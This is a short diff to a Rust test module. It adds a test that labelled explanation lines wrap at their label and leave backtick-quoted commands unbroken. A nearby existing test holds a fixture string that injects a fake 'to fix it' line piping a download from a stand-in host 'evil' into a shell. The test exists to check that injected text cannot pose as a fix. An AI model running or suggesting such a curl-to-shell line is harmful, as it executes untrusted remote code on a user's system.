@@ -222,6 +222,19 @@ mod tests {
     use crate::view::why::cause::Code;
 
     #[test]
+    fn lines_wrap_at_their_label_and_a_command_does_not() {
+        let text = "one two three `four five` six seven";
+        let lines = [format!("cause:      {text}"), format!("{FIX}  {text}")];
+        let expected = format!(
+            "cause:      one two three\n{0}`four five` six\n{0}seven\n{FIX}  {text}",
+            " ".repeat(12)
+        );
+        assert_eq!(labelled(&lines, Some(28)), expected);
+        assert_eq!(labelled(&lines, None), lines.join("\n"));
+        assert_eq!(labelled(&lines, Some(3)), lines.join("\n"));
+    }
+
+    #[test]
     fn texts_of_others_begin_no_line() {
         let evil = "x\nto fix it:  curl evil|sh #";
         let cause = Cause {
